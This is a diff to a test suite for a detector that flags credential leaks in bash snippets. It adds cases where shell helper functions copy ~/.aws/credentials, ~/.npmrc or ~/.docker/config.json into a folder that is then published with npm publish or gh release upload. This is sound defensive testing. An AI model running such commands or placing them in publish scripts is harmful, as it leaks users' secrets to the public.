@@ -163,9 +163,17 @@ describe('attack2: credentials copied into a package a publisher ships', () => {
   it('keeps the publish token written to npm\'s own .npmrc clean', () => {
     expect(threats(fence('bash', 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > pkg/.npmrc\nnpm publish pkg'))).toEqual([]);
   });
-  // A shell helper's `cp "$1" "dist/$2"` names the file it writes only through its parameters, which the copy-tracking does not resolve.
-  it.fails('reads a published folder filled through a helper', () => {
+  it('reads a published folder filled through a helper', () => {
     expect(threats(fence('bash', 'stage() { cp "$1" "dist/$2"; }\nstage ~/.aws/credentials notes.txt\nnpm publish dist'))).toEqual(['threat/exfiltration 10:1 error']);
+  });
+  it('reads a helper that installs its first argument at its second as a copy of that file', () => {
+    expect(threats(fence('bash', 'put_in() {\n  install -m 644 "$1" "$2"\n}\nput_in ~/.npmrc pkg/extra.txt\nnpm publish pkg'))).toEqual(['threat/exfiltration 12:1 error']);
+  });
+  it('reads a helper that redirects its first argument into a release folder, then uploads the file', () => {
+    expect(threats(fence('bash', 'add_file() { cat "$1" > "release/$2"; }\nadd_file ~/.docker/config.json meta.json\ngh release upload v1.0 release/meta.json'))).toEqual(['threat/exfiltration 10:1 error']);
+  });
+  it('keeps a helper that stages the project\'s own files for publishing clean', () => {
+    expect(threats(fence('bash', 'stage() { cp "$1" "dist/$2"; }\nstage README.md README.md\nstage LICENSE LICENSE\nnpm publish dist'))).toEqual([]);
   });
 });
 
